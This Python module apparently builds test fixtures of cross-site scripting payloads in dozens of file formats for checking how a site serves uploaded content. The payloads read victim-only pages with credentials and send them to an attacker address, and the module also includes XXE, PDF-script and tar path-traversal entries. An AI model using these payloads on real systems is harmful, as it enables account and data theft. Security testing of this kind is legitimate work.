"""What one user pushes to act for another who looks at it: documents that would tell a site of theirs who that is."""

from __future__ import annotations

import csv
import io
import json
import tarfile
from typing import NamedTuple
from urllib.parse import quote


class Hostile(NamedTuple):
    """Bytes and what they are said to be."""

    content_type: str
    body: bytes
    application: str | None = None
    filename: str | None = None


class Documents:
    """Hostile documents of many kinds; `tell` is the address of the attacker, `me` what a victim alone can read."""

    def __init__(self, tell: str, me: str) -> None:
        self.tell, self.me = tell, me

    def all(self) -> dict[str, Hostile]:
        """Each of them by its name, which it tells when it runs."""
        return {
            **{name: Hostile(kind, self.html(name)) for name, kind in _HTML_AS.items()},
            "refresh": Hostile("text/html", self.refresh("refresh")),
            "xhtml": Hostile("application/xhtml+xml", self.xhtml("xhtml")),
            "svg": Hostile("image/svg+xml", self.svg("svg")),
            "svg-odd": Hostile("Image/SVG+XML; charset=utf-8", self.svg("svg-odd")),
            "xml": Hostile("application/xml", self.xml("xml")),
            "xslt": Hostile("text/xml", self.xslt("xslt")),
            "markdown": Hostile("text/markdown", self.markdown("markdown"), "markdown"),
            "text": Hostile("text/plain", self.html("text")),
            "json": Hostile("application/json", json.dumps({self.text("json"): self.text("json")}).encode()),
            "plotly": Hostile("application/json", self.plotly("plotly"), "plotly"),
            "notebook": Hostile("application/x-ipynb+json", self.notebook("notebook")),
            "pdf": Hostile("application/pdf", self.html("pdf"), None, "report.pdf"),
            "vega": Hostile("application/vnd.vegalite.v6+json", self.vegalite("vega"), "altair"),
            "vega-plain": Hostile("application/vnd.vega.v6+json", self.vega("vega-plain")),
            "vega-program": Hostile("application/vnd.vega.v6+json", self.program("vega-program")),
            "vega-bound": Hostile("application/vnd.vega.v6+json", self.bound("vega-bound")),
            "vega-looks": Hostile("application/vnd.vega.v6+json", self.looks("vega-looks")),
            "pdf-script": Hostile("application/pdf", self.pdf("pdf-script"), None, "report.pdf"),
            "sound": Hostile("audio/wav", self.html("sound")),
            "film": Hostile("video/mp4", self.svg("film")),
            "folder": Hostile("application/x-tar", self.folder("folder"), "folder", "folder.tar"),
            "table": Hostile("text/csv", self.table("table")),
            "bokeh": Hostile(
                "application/json", json.dumps({self.text("bokeh"): [self.html("bokeh").decode()]}).encode(), "bokeh"
            ),
            "mixed": Hostile("multipart/x-mixed-replace; boundary=part", self.parts("mixed")),
            "related": Hostile("multipart/related; boundary=part", self.parts("related")),
            "mhtml": Hostile("message/rfc822", b"MIME-Version: 1.0\r\n" + self.parts("mhtml")),
            "script": Hostile("text/javascript", self.script("script").encode()),
            "script-odd": Hostile("Application/X-JavaScript", self.script("script-odd").encode()),
        }

    def script(self, name: str) -> str:
        """Reads who the victim is, and tells it."""
        told = f"'{self.tell}told-{name}?' + encodeURIComponent(text)"
        return (
            f"fetch('{self.tell}ran-{name}', {{mode: 'no-cors'}});"
            f"fetch('{self.me}', {{credentials: 'include'}}).then(answer => answer.text())"
            f".then(text => fetch({told}, {{mode: 'no-cors'}}));"
            "self.hacked = true; try { parent.hacked = top.hacked = true; } catch (error) {}"
        )

    def html(self, name: str) -> bytes:
        """A page that tries all that a page can."""
        script, tell = self.script(name), self.tell
        return f"""<!doctype html><html><head><title>{name}</title>
<base href="{tell}">
<link rel="stylesheet" href="{tell}style-{name}"><link rel="prefetch" href="{tell}fetched-{name}">
<style>@import url({tell}import-{name}); body {{ background: url({tell}background-{name}) }}</style>
</head><body>
<script>{script}</script>
<script type="module">{script}</script>
<script src="{tell}source-{name}"></script>
<script>
if (opener) opener.location = '{tell}opener-{name}';
navigator.serviceWorker.register(location.href);
</script>
<img src="{tell}picture-{name}" srcset="{tell}pictures-{name} 2x">
<img src="x" onerror="{script}">
<svg onload="{script}"></svg>
<iframe srcdoc="&lt;script>{script.replace('"', "&quot;")}&lt;/script>"></iframe>
<iframe src="{self.me}"></iframe><iframe src="javascript:{script}"></iframe>
<object data="{tell}object-{name}"></object><embed src="{tell}embed-{name}"><video src="{tell}video-{name}"></video>
<form id="form" method="post" action="{tell}posted-{name}"><input name="a" value="b"></form>
<a id="link" href="javascript:{script}" ping="{tell}ping-{name}">link</a>
<details open ontoggle="{script}"><summary>more</summary></details>
<script>document.getElementById('link').click()</script>
<script>setTimeout(() => document.getElementById('form').submit(), 2000)</script>
</body></html>""".encode()

    def refresh(self, name: str) -> bytes:
        """A page that leads elsewhere, without a script."""
        return f'<meta http-equiv="refresh" content="0; url={self.tell}refreshed-{name}">'.encode()

    def text(self, name: str) -> str:
        """What stands where a text is due."""
        script = self.script(name)
        return f'<script>{script}</script><img src="x" onerror="{script}"><a href="javascript:{script}">link</a>'

    def xhtml(self, name: str) -> bytes:
        """The same in XML."""
        return (
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>'
            f'<body onload="{self.script(name)}"><script><![CDATA[{self.script(name)}]]></script></body></html>'
        ).encode()

    def svg(self, name: str) -> bytes:
        """A picture with scripts, and a page inside of it."""
        script, tell = self.script(name), self.tell
        return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="200" height="100" onload="{script}">
<script><![CDATA[{script}]]></script><script href="{tell}source-{name}"/>
<style>@import url({tell}import-{name});</style>
<image href="{tell}picture-{name}" width="9" height="9"/><use href="{tell}use-{name}#a"/>
<a href="javascript:{script}"><text y="20">click</text></a>
<animate onbegin="{script}" attributeName="x" dur="1s"/>
<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml">
<script><![CDATA[{script}]]></script><img src="x" onerror="{script}"/><iframe src="{self.me}"/></body></foreignObject>
</svg>""".encode()

    def xml(self, name: str) -> bytes:
        """XML with a script of HTML in it."""
        script = f'<script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[{self.script(name)}]]></script>'
        return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{self.me}">]><a>{script}&b;</a>'.encode()

    def xslt(self, name: str) -> bytes:
        """XML that makes itself a page, where browsers still do that."""
        return f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#style"?>
<!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>
<a><xsl:stylesheet id="style" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><html><body><script><![CDATA[{self.script(name)}]]></script></body></html></xsl:template>
</xsl:stylesheet></a>""".encode()

    def markdown(self, name: str) -> bytes:
        """Raw HTML, links and pictures that are none."""
        script = self.script(name).replace(" ", "%20")
        lines = [
            "# Heading",
            "**bold**",
            f"[link](javascript:{quote(script)})",
            f"[data](data:text/html,{quote(self.text(name))})",
            f"![picture]({self.tell}picture-{name})",
            f'<a href="&#106;avascript:{self.script(name)}">odd</a>',
            f'<form action="{self.tell}posted-{name}"><button>Sign in</button></form>',
            f'<table background="{self.tell}ground-{name}"><tr><td background="{self.tell}cell-{name}">a</table>',
            f'<input type="image" src="{self.tell}input-{name}">',
            self.text(name),
            self.html(name).decode(),
        ]
        return "\n\n".join(lines).encode()

    def plotly(self, name: str) -> bytes:
        """HTML in every text of a figure, links that are scripts, and pictures of others."""
        text = self.text(name)
        look = f'<span style="fill: url({self.tell}look-{name}#a)">text</span>'
        bar = {"type": "bar", "x": ["a"], "y": [1], "name": text, "text": [text + look], "hovertext": [text]}
        layout = {
            "title": {"text": f'<a href="javascript:{self.script(name)}">{name}</a>{text}'},
            "xaxis": {"title": {"text": look}},
            "images": [{"source": f"{self.tell}picture-{name}", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
            "annotations": [{"text": text, "x": "a", "y": 1, "captureevents": True, "hovertext": text}],
        }
        return json.dumps({"data": [{**bar, "hovertemplate": text}], "layout": layout}).encode()

    def vegalite(self, name: str) -> bytes:
        """A chart whose texts are pages, whose links are scripts, and whose rows, shapes and pictures are elsewhere."""
        text, script = self.text(name), self.script(name)
        values = [{"a": text, "link": f"javascript:{script}", "picture": f"{self.tell}picture-{name}"}]
        href, label = {"field": "link"}, {"field": "a"}
        layers = [
            {"mark": {"type": "bar", "tooltip": True}, "encoding": {"x": label, "href": href}},
            {"mark": "image", "encoding": {"x": label, "url": {"field": "picture"}, "href": href}},
            {"mark": "text", "encoding": {"text": label, "tooltip": label}},
            {"data": {"url": f"{self.tell}fetched-{name}"}, "mark": "point"},
        ]
        return json.dumps({"title": text, "data": {"values": values}, "layer": layers}).encode()

    def vega(self, name: str) -> bytes:
        """The same, in the language beneath."""
        data = [{"name": "a", "url": f"{self.tell}fetched-{name}"}, {"name": "b", "values": [{"c": self.text(name)}]}]
        text = {"type": "text", "from": {"data": "b"}, "encode": {"enter": {"text": {"field": "c"}}}}
        picture = {"type": "image", "encode": {"enter": {"url": {"value": f"{self.tell}picture-{name}"}}}}
        return json.dumps({"data": data, "marks": [text, picture], "width": 200}).encode()

    def program(self, name: str) -> bytes:
        """A chart with an expression that would be a program where expressions are compiled."""
        expression = f"(constructor.constructor || [].map.constructor)({json.dumps(self.script(name))})()"
        return json.dumps({"signals": [{"name": "s", "init": expression}], "marks": []}).encode()

    def bound(self, name: str) -> bytes:
        """A chart that listens to the page around it, writes over it, and has inputs that lead elsewhere."""
        typed = [{"events": f"{source}:keydown", "update": "heard + event.key"} for source in ("window", "body")]
        picture = {"input": "image", "src": f"{self.tell}picture-{name}"}
        form = {"input": "submit", "formaction": f"{self.tell}posted-{name}", "style": "position: fixed; inset: 0"}
        signals = [
            {"name": "heard", "value": "heard", "on": typed},
            {"name": "over", "value": "", "bind": {"element": "h1", "input": "text"}},
            {"name": "beside", "value": "written", "bind": {"element": "#beside"}},
            {"name": "picture", "value": "", "bind": picture},
            {"name": "form", "value": "", "bind": form},
        ]
        mark = {"type": "text", "encode": {"update": {"text": {"signal": "heard"}}}}
        return json.dumps({"signals": signals, "marks": [mark], "config": {"events": {"bind": "any"}}}).encode()

    def looks(self, name: str) -> bytes:
        """A chart whose colours and cursors are elsewhere, also where they are spelt oddly."""
        looks = {
            "fill": f"url({self.tell}fill-{name}#a)",
            "stroke": f"u\\72l({self.tell}stroke-{name}#a)",
            "cursor": f"url({self.tell}cursor-{name}), auto",
        }
        box = {name: {"value": value} for name, value in {"width": 200, "height": 100, **looks}.items()}
        listed = {"x": {"value": 200}, "width": {"value": 200}, "height": {"value": 100}}
        listed["fill"] = {"signal": f"['var(--none, url({self.tell}listed-{name}#a))']"}
        marks = [{"type": "rect", "encode": {"enter": each}} for each in (box, listed)]
        marks.append({"type": "image", "encode": {"enter": {"image": {"value": {"src": f"{self.tell}image-{name}"}}}}})
        signals = [{"name": "cursor", "value": f"url({self.tell}pointer-{name}), auto"}]
        return json.dumps({"width": 400, "height": 100, "signals": signals, "marks": marks}).encode()

    def notebook(self, name: str) -> bytes:
        """A notebook whose outputs are pages and scripts."""
        html = self.html(name).decode()
        outputs = [
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": html}},
            {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": self.script(name)}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": self.svg(name).decode()}},
            {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": self.markdown(name).decode()}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'" onerror="{self.script(name)}'}},
            {"output_type": "stream", "name": html, "text": html},
            {"output_type": "error", "ename": html, "evalue": html, "traceback": [html]},
            {"output_type": html, "data": {html: html}},
        ]
        code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "x", "outputs": outputs}
        text = {"cell_type": "markdown", "metadata": {}, "source": self.markdown(name).decode()}
        return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [code, text]}).encode()

    def pdf(self, name: str) -> bytes:
        """A PDF that runs a script and leads elsewhere when it is opened."""
        return f"""%PDF-1.4
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA <</WC 5 0 R>> >> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /AA <</O 5 0 R>> >> endobj
4 0 obj <</S /JavaScript /JS (app.launchURL\\('{self.tell}launched-{name}'\\); {self.script(name)})>> endobj
5 0 obj <</S /URI /URI ({self.tell}opened-{name})>> endobj
trailer <</Root 1 0 R>>
""".encode()

    def folder(self, name: str) -> bytes:
        """An archive whose names are pages, and lead out of it."""
        sink = io.BytesIO()
        with tarfile.open(fileobj=sink, mode="w", format=tarfile.PAX_FORMAT) as archive:
            for path in (self.text(name), "../../out", "/etc/passwd"):
                archive.addfile(tarfile.TarInfo(path))
        return sink.getvalue()

    def table(self, name: str) -> bytes:
        """A table whose names and cells are pages."""
        sink = io.StringIO()
        csv.writer(sink).writerows([[self.text(name), "a"], [self.text(name), "1"]])
        return sink.getvalue().encode()

    def parts(self, name: str) -> bytes:
        """A page as one of several parts."""
        part = b"--part\r\nContent-Type: text/html\r\n\r\n" + self.html(name) + b"\r\n"
        return b"Content-Type: multipart/related; boundary=part\r\n\r\n" + part * 2 + b"--part--\r\n"


_HTML_AS = {
    "html": "text/html",
    "html-upper": "TEXT/HTML",
    "html-utf7": "text/html; charset=utf-7",
    "html-iso-2022": "text/html; charset=iso-2022-jp",
    "html-space": " text/html",
    "html-semicolon": "text/html;",
    "html-two": "text/html; charset=utf-8; charset=utf-7",
    "html-list": "text/plain, text/html",
    "html-tab": "text/html\t",
    "html-nothing": "",
    "html-unknown": "unknown/unknown",
    "html-as-picture": "image/png",
}
